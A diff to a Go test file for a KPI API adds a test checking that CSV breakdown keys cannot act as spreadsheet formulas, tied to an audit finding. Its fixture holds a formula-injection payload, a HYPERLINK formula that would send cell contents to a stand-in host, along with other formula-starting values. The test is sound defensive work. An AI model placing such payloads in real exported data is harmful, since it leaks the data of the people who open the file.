@@ -2,6 +2,7 @@ package iocapi_test
 
 import (
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"io"
 	"net/http"
@@ -24,6 +25,7 @@ import (
 type fakeKPIs struct {
 	engine *kpi.Engine
 	last   kpi.Request
+	keys   []string // breakdown keys; default one area
 }
 
 func (f *fakeKPIs) Check(r kpi.Request) (*kpi.Def, error) { return f.engine.Check(r) }
@@ -40,6 +42,9 @@ func (f *fakeKPIs) Run(_ context.Context, r kpi.Request) (*kpi.Def, *kpi.Result,
 	}
 	if r.By != "" {
 		res.Breakdown = []kpi.Part{{Key: "27256", Value: &v}}
+		for _, k := range f.keys {
+			res.Breakdown = append(res.Breakdown, kpi.Part{Key: k, Value: &v})
+		}
 	}
 	return d, res, nil
 }
@@ -212,5 +217,33 @@ func TestBadParameterIsNamed(t *testing.T) {
 		if err := json.Unmarshal([]byte(body), &doc); status != 400 || err != nil || doc.Parameter != c.param {
 			t.Errorf("%s: %d %s; want 400 naming parameter %q", c.path, status, body, c.param)
 		}
+	}
+}
+
+// TestCSVCellsAreNeverFormulas (finding L1): a breakdown key that a
+// spreadsheet would run as a formula is written inert.
+func TestCSVCellsAreNeverFormulas(t *testing.T) {
+	srv, f := newServer(t)
+	f.keys = []string{`=HYPERLINK("http://x.example/?leak="&A1,"bấm vào")`, "+1+1", "-2+3", "@SUM(A1)", "Sở Y tế"}
+	status, body, _ := get(t, srv, "/v1/kpis/health.visits?from=2026-11-01&to=2026-11-03&format=csv&by=area", leaderToken)
+	if status != 200 {
+		t.Fatalf("%d: %s", status, body)
+	}
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	seen := 0
+	for _, r := range rows {
+		if r[0] != "breakdown" {
+			continue
+		}
+		seen++
+		if strings.ContainsAny(r[1][:1], "=+-@") {
+			t.Errorf("breakdown key %q would run as a formula", r[1])
+		}
+	}
+	if seen != 6 || !strings.Contains(body, "Sở Y tế") || !strings.Contains(body, "'=HYPERLINK") {
+		t.Fatalf("csv:\n%s", body)
 	}
 }
